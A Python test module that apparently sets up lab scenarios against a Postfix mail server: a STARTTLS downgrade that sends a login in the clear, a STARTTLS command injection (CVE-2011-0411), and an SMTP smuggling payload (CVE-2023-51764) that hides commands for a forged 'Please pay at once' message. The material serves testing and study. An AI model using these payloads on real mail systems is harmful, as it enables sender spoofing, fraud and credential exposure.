"""What a mail session looks like that somebody tampers with."""

from __future__ import annotations

from typing import TYPE_CHECKING

from tests.support.laboratory import wire
from tests.support.laboratory.clients import scripted, smtp
from tests.support.laboratory.messages import compose
from tests.support.laboratory.people import RAVI, TOM
from tests.support.laboratory.scenarios.common import incoming, outgoing, to_server
from tests.support.laboratory.tape import scenario

if TYPE_CHECKING:
    from tests.support.laboratory.office import Office
    from tests.support.laboratory.tape import Tape


@scenario(
    "smtp-starttls-stripped",
    "Somebody between smtplib and Postfix overwrites the STARTTLS keyword; the client"
    " logs in without TLS",
    "python3",
    "postfix",
)
def stripped(office: Office, tape: Tape) -> None:
    access = to_server(office, tape, 587, person=RAVI)
    each = outgoing("stripped", RAVI, "In the clear after all")
    effect = wire.overwriting(b"250-STARTTLS", b"250-XXXXXXXX")
    traveller = office.wire.traveller
    with office.wire.effect(effect), tape.recording(traveller, interface="eth0"):
        tape.add(traveller.call(smtp.send, access, each))


@scenario(
    "smtp-starttls-injected",
    "A client's STARTTLS comes with another command in the same segment, which Postfix"
    " drops (CVE-2011-0411)",
    "postfix",
)
def injected(office: Office, tape: Tape) -> None:
    access = to_server(office, tape, 25, "starttls")
    each = incoming("injected", TOM, subject="With a stowaway")
    with tape.recording():
        tape.add(office.outside.call(scripted.send_with_stowaway, access, each))


@scenario(
    "smtp-smuggling",
    "A message holds a bare line feed, a dot and commands for a second message"
    " (CVE-2023-51764)",
    "postfix",
)
def smuggling(office: Office, tape: Tape) -> None:
    hidden = compose(
        "smuggled@mx.example.net",
        "Ines Marlow <ines@example.com>",
        [TOM.address],
        "Please pay at once",
    )
    each = incoming("carrier", TOM, subject="A harmless message")
    commands = (
        f"\n.\r\nMAIL FROM:<ines@example.com>\r\nRCPT TO:<{TOM.address}>\r\nDATA\r\n"
    )
    content = each.message.as_bytes().rstrip() + commands.encode() + hidden.as_bytes()
    access = to_server(office, tape, 25)
    with tape.recording():
        tape.add(office.outside.call(scripted.send_content, access, each, content))
